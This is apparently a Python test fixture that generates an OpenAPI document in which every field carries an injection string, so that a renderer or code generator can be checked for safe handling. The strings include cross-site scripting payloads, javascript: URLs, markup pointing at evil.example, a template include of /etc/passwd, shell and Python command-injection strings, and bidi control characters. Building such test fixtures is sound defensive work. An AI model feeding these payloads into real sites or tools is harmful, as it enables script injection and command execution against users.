"""A document in which every text is an attack, an operation for each."""

from __future__ import annotations

from typing import Any

RUN = "document.documentElement.dataset.ran=1"
"""What a page must not have done."""
MARK = "integen-was-here"
"""A file that no example may make."""

ATTACKS = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'" autofocus onfocus="{RUN}" x="',
    f"' onmouseover='{RUN}' x='",
    f"[click](javascript:{RUN}) [again](JaVaScRiPt:{RUN}) [d](data:text/html,<script>{RUN}</script>)",
    f"![x](https://evil.example/x.png) <javascript:{RUN}> [r]\n\n[r]: javascript:{RUN}",
    f"<svg onload={RUN}> <iframe srcdoc='<script>{RUN}</script>'></iframe>",
    "</code></pre></td></table></main><form action=https://evil.example><input name=q>",
    "<style>*{display:none}</style><base href=https://evil.example/><meta http-equiv=refresh content=0>",
    "```\n</code></pre><h1>x</h1>\n````\n| a | b |\n|---|---|\n| `</td>` | <b>x</b> |",
    "{{ 7*7 }}{% include '/etc/passwd' %}{# x #}",
    f"$(touch {MARK}) `touch {MARK}`; touch {MARK} && x | y > {MARK}",
    f"'; touch {MARK}; '",
    f'"; touch {MARK}; "',
    f"x\ntouch {MARK}",
    f"\\'; open('{MARK}', 'w') #",
    f'"""\nopen("{MARK}", "w")\n"""',
    "\u202eevil\u2066 \u200bzero \x1b[31mred\x07",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#106;avascript:x",
)


def document(server: str) -> dict[str, Any]:
    """Return an OpenAPI document; every attack is a title, a description, a name, an example, a URL..."""
    every = "\n\n".join(ATTACKS)
    return {
        "openapi": "3.1.0",
        "info": {"title": ATTACKS[0], "version": ATTACKS[2], "description": every},
        "servers": [{"url": server, "description": every}],
        "externalDocs": {"url": f"javascript:{RUN}"},
        "tags": [{"name": "tagged", "description": every}],
        "components": {
            "securitySchemes": {
                "consent": {
                    "type": "oauth2",
                    "description": every,
                    "flows": {
                        "authorizationCode": {
                            "authorizationUrl": f"javascript:{RUN}",
                            "tokenUrl": f"https://evil.example/<script>{RUN}</script>",
                            "scopes": {attack: attack for attack in ATTACKS},
                        }
                    },
                },
                "key": {"type": "apiKey", "in": "query", "name": "k'\"$(x)", "description": every},
            }
        },
        "paths": {
            f"/a{number}/{{id}}": {"post": _operation(number, attack)}
            for number, attack in enumerate(ATTACKS)
        },
    }


def _operation(number: int, attack: str) -> dict[str, Any]:
    shown = {"description": attack, "schema": {"type": "string", "default": attack, "enum": [attack, "b"]}}
    return {
        "operationId": f"op{number}",
        "tags": ["tagged"],
        "summary": attack,
        "description": f"{attack}\n\n- {attack}\n\n> {attack}\n\n# {attack}",
        "externalDocs": {"url": f"javascript:{RUN}//{attack}"},
        "security": [{"key": []}, {"consent": [attack]}],
        "parameters": [
            {
                "name": "id",
                "in": "path",
                "required": True,
                "schema": {"type": "string"},
                "example": f"v{number}",
            },
            {"name": "said", "in": "query", "required": True, **shown},
            {"name": attack, "in": "query", "description": attack, "schema": {"type": "string"}},
        ],
        "requestBody": {
            "required": True,
            "content": {
                "application/json": {
                    "schema": {
                        "type": "object",
                        "required": ["text"],
                        "properties": {
                            "text": {"type": "string", "description": attack, "examples": [attack]}
                        },
                    }
                }
            },
        },
        "responses": {
            "200": {
                "description": attack,
                "content": {"application/json": {"schema": {"type": "string"}, "example": attack}},
            },
            "404": {"description": attack},
        },
    }
